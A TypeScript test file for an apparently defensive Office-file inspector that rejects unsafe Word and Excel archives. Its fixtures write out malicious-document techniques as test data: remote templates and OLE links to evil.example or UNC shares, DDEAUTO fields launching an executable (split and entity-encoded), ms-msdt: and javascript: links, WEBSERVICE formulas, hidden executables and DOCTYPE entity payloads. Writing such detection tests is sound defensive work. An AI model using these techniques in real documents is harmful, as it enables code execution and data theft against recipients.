import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { openZip, UnsafeArchive } from '#kernel/zip.ts'
import { type ForgedEntry, forgeOffice, forgeZip } from './forged-zip.ts'
import { inspectOffice } from './office.ts'

type Parts = Parameters<typeof forgeOffice>[1]
const inspect = async (bytes: Uint8Array) => inspectOffice(await openZip(bytes))
const docx = (parts?: Parts) => forgeOffice('docx', parts)
const xlsx = (parts?: Parts) => forgeOffice('xlsx', parts)
const refuses = (bytes: Uint8Array, says: RegExp) =>
  assert.rejects(inspect(bytes), (error) => error instanceof UnsafeArchive && says.test(error.message))

const relationship = (type: string, target: string, mode = 'External') =>
  docx({
    'word/_rels/document.xml.rels': `\uFEFF<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
  })
const field = (xml: string) =>
  docx({ 'word/document.xml': `<w:document xmlns:w="urn:w">${xml}</w:document>` })

describe('inspectOffice', () => {
  it('says what an ordinary file is', async () => {
    assert.equal(await inspect(docx()), 'document')
    assert.equal(await inspect(xlsx()), 'workbook')
    assert.equal(await inspect(docx({ 'word/embeddings/chart.xlsx': xlsx() })), 'document')
  })

  it('refuses macros by name, by type and by old macro sheets', async () => {
    await refuses(docx({ 'word/vbaProject.bin': 'x' }), /宏/)
    await refuses(docx({ 'word/VBAPROJECT.BIN': 'x' }), /宏/)
    await refuses(xlsx({ 'xl/macrosheets/sheet1.xml': '<x/>' }), /宏/)
    await refuses(
      docx({
        '[Content_Types].xml':
          '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      }),
      /宏/,
    )
  })

  it('refuses objects, controls and hidden programs under any name', async () => {
    await refuses(docx({ 'word/embeddings/oleObject1.bin': 'x' }), /OLE/)
    await refuses(docx({ 'word/media/image1.png': Buffer.from('d0cf11e0a1b11ae1', 'hex') }), /OLE/)
    await refuses(docx({ 'word/activeX/activeX1.xml': '<x/>' }), /ActiveX/)
    await refuses(relationship('oleObject', 'media/x.bin', 'Internal'), /OLE/)
    await refuses(docx({ 'word/media/image1.png': Buffer.from(`MZ${'\0'.repeat(64)}PE\0\0`) }), /可执行/)
    await refuses(docx({ 'word/media/image1.png': Buffer.from('\x7fELF....') }), /可执行/)
    assert.equal(
      await inspect(docx({ 'word/media/notes.txt': 'MZ is a beginning of names too' })),
      'document',
    )
  })

  it('refuses what is fetched from outside, but not hyperlinks and templates on the own disk', async () => {
    await refuses(xlsx({ 'xl/externalLinks/externalLink1.xml': '<x/>' }), /外部/)
    await refuses(xlsx({ 'xl/connections.xml': '<x/>' }), /外部数据/)
    await refuses(relationship('image', 'http://evil.example/x.png'), /图片/)
    await refuses(relationship('attachedTemplate', 'http://evil.example/x.dotm'), /模板/)
    await refuses(relationship('attachedTemplate', '\\\\10.0.0.1\\share\\x.dotm'), /模板/)
    await refuses(relationship('attachedTemplate', 'file:///\\\\10.0.0.1\\share\\x.dotm'), /模板/)
    await refuses(relationship('oleObject', 'mhtml:http://evil.example!x'), /OLE/)
    await refuses(relationship('aFChunk', 'chunk.mht', 'Internal'), /载入/)
    await refuses(relationship('image', 'http://evil.example/x.png', 'external'), /图片/)
    for (const target of [
      'https://www.gov.cn/',
      'mailto:a@b.cn',
      '附件1.docx',
      '#标题',
      'file:///D:/附件.docx',
    ]) {
      assert.equal(await inspect(relationship('hyperlink', target)), 'document', target)
    }
    await refuses(relationship('hyperlink', 'javascript:alert(1)'), /javascript:/)
    await refuses(relationship('hyperlink', 'ms-msdt:/id'), /ms-msdt:/)
    for (const target of ['file:///D:\\模板\\公文.dotx', 'C:\\Users\\a\\公文.dotx', 'Normal.dotm']) {
      assert.equal(await inspect(relationship('attachedTemplate', target)), 'document', target)
    }
  })

  it('refuses data exchange in fields and formulas, also in pieces or disguised', async () => {
    const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
    await refuses(field(run(' DDEAUTO c:\\\\x.exe "/c"')), /DDE/)
    await refuses(field(run(' DD') + run('E c:\\\\x.exe')), /DDE/)
    await refuses(field(run(' &#68;&#x44;E c:\\\\x.exe')), /DDE/)
    await refuses(field('<w:fldSimple w:instr=" dde x y"/>'), /DDE/)
    assert.equal(await inspect(field(run(' TOC \\o "1-3" ') + run(' PAGE '))), 'document')
    const sheet = (formula: string) => xlsx({ 'xl/worksheets/sheet1.xml': `<s><c><f>${formula}</f></c></s>` })
    await refuses(sheet('_xlfn.WEBSERVICE("http://x")'), /WEBSERVICE/)
    await refuses(sheet('IF(1,_xlfn.webservice (A1))'), /WEBSERVICE/)
    assert.equal(await inspect(sheet('SUM(A1:A9)')), 'workbook')
  })

  it('refuses DOCTYPE in any part, in any coding, also in a document inside', async () => {
    const bomb = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    await refuses(docx({ 'word/document.xml': bomb }), /DOCTYPE/)
    await refuses(docx({ 'word/document.xml': Buffer.from(`\uFEFF${bomb}`, 'utf16le') }), /DOCTYPE/)
    await refuses(docx({ 'word/document.xml': Buffer.from(`\uFEFF${bomb}`, 'utf16le').swap16() }), /DOCTYPE/)
    await refuses(docx({ 'word/media/image1.png': `\uFEFF \n${bomb}` }), /DOCTYPE/)
    await refuses(docx({ '[Content_Types].xml': bomb }), /DOCTYPE/)
    await refuses(docx({ 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' }), /编码/)
    await refuses(docx({ 'word/embeddings/a.docx': docx({ 'word/document.xml': bomb }) }), /DOCTYPE/)
  })

  it('goes two documents deep, and counts what all of them unpack to', async () => {
    const nest = (inner: Uint8Array) => docx({ 'word/embeddings/a.docx': inner })
    assert.equal(await inspect(nest(nest(docx()))), 'document')
    await refuses(nest(nest(nest(docx()))), /嵌套/)
    const big = Array.from(
      { length: 90 },
      (_, i): ForgedEntry => ({ name: `${i}`, content: Buffer.alloc(900_000) }),
    )
    const kept = [
      ...big,
      {
        name: '[Content_Types].xml',
        content: '<Types><Override ContentType="x/wordprocessingml.document.main+xml"/></Types>',
      },
    ]
    const inner = forgeZip(kept)
    assert.equal(await inspect(docx({ a: inner, b: inner })), 'document')
    await refuses(docx({ a: inner, b: inner, c: inner }), /解压后超过/)
  })

  it('refuses an archive that is no office file, and finds damage inside', async () => {
    await refuses(forgeZip([{ name: 'a.txt', content: 'x' }]), /不是 Word 或 Excel/)
    await refuses(docx({ '[Content_Types].xml': '<Types/>' }), /不是 Word 或 Excel/)
    await refuses(docx({ '[Content_Types].xml': '<Types>' }), /XML/)
    const entries: ForgedEntry[] = [
      {
        name: '[Content_Types].xml',
        content: '<Types><Override ContentType="x/wordprocessingml.document.main+xml"/></Types>',
      },
      { name: 'word/media/big.png', content: Buffer.alloc(3_000_000), declares: 100 },
    ]
    await refuses(forgeZip(entries), /不符/)
  })
})
